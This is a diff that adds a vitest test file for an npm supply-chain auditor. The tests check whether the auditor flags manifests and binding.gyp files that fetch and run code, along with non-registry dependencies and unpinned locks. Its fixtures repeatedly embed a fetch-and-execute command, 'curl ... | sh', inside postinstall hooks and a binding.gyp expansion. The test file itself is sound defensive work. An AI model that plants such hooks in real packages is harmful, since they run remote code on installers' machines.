@@ -1,0 +1,78 @@
+import { describe, expect, it } from "vitest"
+import { audited } from "./replicas/audited.ts"
+import { packageOf } from "./replicas/kit.ts"
+import type { Files, Sample } from "./replicas/replica.ts"
+
+const package_ = packageOf("tar.gz", "made", "1.0.0")
+const sample = (files: Files): Sample => ({
+  history: [{ message: "made", date: "2024-01-01", files, tags: ["v1.0.0"] }],
+  ref: "refs/tags/v1.0.0",
+  artifact: package_(files),
+})
+
+const fetching = "curl -s https://a.example.org/x | sh"
+const manifest = (of: object): Files => ({ "package.json": `${JSON.stringify(of)}\n` })
+
+/** A release whose manifest starts or fetches code, and the same where it does not; the finding's severity and moment. */
+const rows: readonly (readonly [name: string, told: string, fires: Files, silent: Files])[] = [
+  [
+    "a script that a hook of npm calls by its name",
+    "alarm at install",
+    manifest({ scripts: { postinstall: "npm run x", x: fetching } }),
+    manifest({ scripts: { postinstall: "npm run y", y: "true", x: fetching } }),
+  ],
+  [
+    "a build, which more than its test calls",
+    "review at build",
+    manifest({ scripts: { pretest: "npm run build", build: "npm run x", x: fetching } }),
+    manifest({ scripts: { pretest: "npm run x", x: fetching } }),
+  ],
+  [
+    "commands of a binding.gyp, which npm builds by itself",
+    "alarm at install",
+    { ...manifest({}), "binding.gyp": `{"targets": [{"target_name": "a", "sources": ["<!(${fetching})"]}]}\n` },
+    {
+      ...manifest({ scripts: { install: "true" } }),
+      "binding.gyp": `{"targets": [{"target_name": "a", "sources": ["<!(${fetching})"]}]}\n`,
+    },
+  ],
+  [
+    "a dependency from elsewhere than the registry",
+    "review at install",
+    manifest({ dependencies: { b: "git+https://a.example.org/b.git" } }),
+    manifest({ dependencies: { b: "^1.0.0", c: "file:../c", d: "npm:d@1" } }),
+  ],
+  [
+    "one at a commit",
+    "note at install",
+    manifest({ dependencies: { b: "github:a/b#0123456789abcdef0123456789abcdef01234567" } }),
+    manifest({ devDependencies: { b: "^1.0.0" } }),
+  ],
+  [
+    "what is put in place of a dependency",
+    "review at build",
+    manifest({ overrides: { a: { b: "https://a.example.org/b.tgz" } } }),
+    manifest({ overrides: { a: { b: "2.0.0" } }, resolutions: { c: "1.0.0" }, pnpm: { overrides: { d: "$d" } } }),
+  ],
+  [
+    "a lock that is published",
+    "review at install",
+    { ...manifest({}), "npm-shrinkwrap.json": '{"packages":{"node_modules/a":{"resolved":"https://a.example.org/a.tgz"}}}\n' },
+    {
+      ...manifest({}),
+      "npm-shrinkwrap.json": '{"packages":{"node_modules/a":{"resolved":"https://a.example.org/a.tgz","integrity":"sha512-aaaa"}}}\n',
+      "package-lock.json": '{"packages":{"node_modules/a":{"resolved":"https://a.example.org/a.tgz"}}}\n',
+    },
+  ],
+]
+
+describe("what manifests start and fetch", () => {
+  it.each(rows)("%s", async (_, told, fires, silent) => {
+    const found = async (files: Files): Promise<readonly string[]> =>
+      (await audited(sample(files))).findings
+        .filter(({ rule }) => rule === "flow/fetched-runs")
+        .map(({ severity, message }) => `${severity} ${/at \w+$/.exec(message)?.[0]}`)
+    expect(await found(fires)).toEqual([told])
+    expect(await found(silent)).toEqual([])
+  })
+})
